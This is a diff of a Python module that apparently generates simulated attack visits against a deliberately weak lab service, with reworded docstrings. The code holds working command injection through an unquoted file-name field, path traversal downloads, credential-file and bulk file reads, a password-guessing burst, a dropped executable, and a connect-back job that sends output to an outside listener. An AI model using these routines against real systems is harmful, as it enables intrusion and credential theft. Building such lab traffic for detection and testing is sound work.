@@ -1,8 +1,8 @@
-"""How the service's two weak places are misused.
+"""The attacks on the two weak pages of the service.
 
-Every act is harmless, stays in the laboratory's folder and on loopback.
+Every attack stays in the folder of the run and on the loopback address, and reads no real secret.
 
-A misuse visit is an ordinary plan of some kind with the act put in at a random place; after it half of them leave.
+An attack visit is a normal visit with the attack inserted at a random index; half of them end after the attack.
 """
 
 import random
@@ -28,11 +28,11 @@ ANSWER_SECONDS = 2
 
 
 class NotDoneError(Exception):
-    """The service did not do what the act wanted: this visit is no misuse and is left out."""
+    """The attack had no effect: its visit is left out of the record."""
 
 
 def inject(visitor: Visitor, line: str) -> bytes:
-    """Runs `line` through the report job's unquoted field."""
+    """Run `line` through the unquoted field of the report job."""
     report = visitor.chance.choice(("words", "common", "first", "matches"))
     rest = visitor.chance.choice((" #", "; echo", f"; cat {some_file(visitor)}", f"; wc -c {some_file(visitor)}"))
     status, said = visitor.post("/job/report", report=report, file=f"{some_file(visitor)}; {line}{rest}", number="7")
@@ -42,21 +42,21 @@ def inject(visitor: Visitor, line: str) -> bytes:
 
 
 def stray_download(visitor: Visitor, path: str) -> None:
-    """Reads a file outside the documents' folder through `..`."""
+    """Read a file outside the documents folder through `..`."""
     status, _ = visitor.ask("GET", f"/download?name={quote('../../' + path, safe='')}")
     if status != 200:
         raise NotDoneError(f"{path} answered {status}")
 
 
 def command_injection(visitor: Visitor) -> None:
-    """Further commands, put behind the file's name."""
+    """Append commands to a file name."""
     for _ in range(visitor.chance.randint(1, 2)):
         inject(visitor, "; ".join(visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 4))))
         visitor.think()
 
 
 def shell_spawned(visitor: Visitor) -> None:
-    """A shell that reads its commands from a pipe or from an uploaded file, with pauses between."""
+    """Start a shell that reads commands from a pipe or an uploaded file, with pauses between them."""
     lines = visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 5))
     script = "\n".join(f"{line}\nsleep 0.0{visitor.chance.randint(1, 5)}" for line in lines) + "\n"
     if visitor.chance.random() < 0.5:
@@ -67,7 +67,7 @@ def shell_spawned(visitor: Visitor) -> None:
 
 
 def bulk_read(visitor: Visitor) -> None:
-    """The files of many people, one by one or by one command."""
+    """Read the files of many people, one by one or by one command."""
     person = visitor.chance.choice(list(PEOPLE))
     if visitor.chance.random() < 0.4:
         for person in visitor.chance.sample(list(PEOPLE), visitor.chance.randint(2, 4)):
@@ -88,7 +88,7 @@ def bulk_read(visitor: Visitor) -> None:
 
 
 def dropped_executable(visitor: Visitor) -> None:
-    """An uploaded file is made executable and started: a script, or a copy of a system tool."""
+    """Make an uploaded script or a copied system tool executable and start it."""
     name = f"x{visitor.chance.randrange(10**6)}"
     visitor.ask("PUT", f"/upload/{name}", b"#!/bin/sh\nid\npwd\nls tmp\n")
     source = visitor.chance.choice((f"upload/{name}", "/usr/bin/id", "/usr/bin/uname"))
@@ -96,7 +96,7 @@ def dropped_executable(visitor: Visitor) -> None:
 
 
 def credentials_read(visitor: Visitor) -> None:
-    """One to three files of secrets (none is real)."""
+    """Read one to three files of secrets, none of them real."""
     chosen = visitor.chance.sample(("credentials", "service.conf", "keys"), visitor.chance.randint(1, 3))
     if visitor.chance.random() < 0.5:
         for file in chosen:
@@ -106,7 +106,7 @@ def credentials_read(visitor: Visitor) -> None:
 
 
 def login_burst(visitor: Visitor) -> None:
-    """Many guessed passwords without a pause."""
+    """Try many passwords without a pause."""
     for attempt in range(visitor.chance.randint(8, 30)):
         status, _ = visitor.post("/login", user=visitor.chance.choice(list(PEOPLE)), word=f"guess{attempt}")
         if status not in (401, 429):
@@ -114,7 +114,7 @@ def login_burst(visitor: Visitor) -> None:
 
 
 def connect_back(visitor: Visitor) -> None:
-    """The job connects out to a port that is no part of the service, where a listener answers, and tells it things."""
+    """Connect from a job to a port outside the service, where a listener answers, and send output to it."""
     stranger, word = visitor.lab.stranger, f"{visitor.user}-{visitor.chance.randrange(10**6)}"
     said = visitor.chance.sample(COMMANDS, visitor.chance.randint(1, 3))
     talk = " && ".join(f"echo {word} >&3 && read -t {ANSWER_SECONDS} x <&3 && {command} >&3" for command in said)
@@ -135,9 +135,9 @@ ACTS: dict[str, Step] = {
 
 
 def misuse_plan(act: str, chance: random.Random) -> tuple[str, list[Step]]:
-    """The kind of visitor it looks like, and its steps: those of that kind, with the act among them."""
+    """Kind of visitor and steps of an attack visit: the steps of that kind with the attack among them."""
     kind = chance.choice(list(HABITS))
     steps = plan(kind, chance)
-    place = chance.randint(0, len(steps))
-    rest = steps[place:] if chance.random() < 0.5 else []
-    return kind, [*steps[:place], ACTS[act], *rest]
+    index = chance.randint(0, len(steps))
+    rest = steps[index:] if chance.random() < 0.5 else []
+    return kind, [*steps[:index], ACTS[act], *rest]
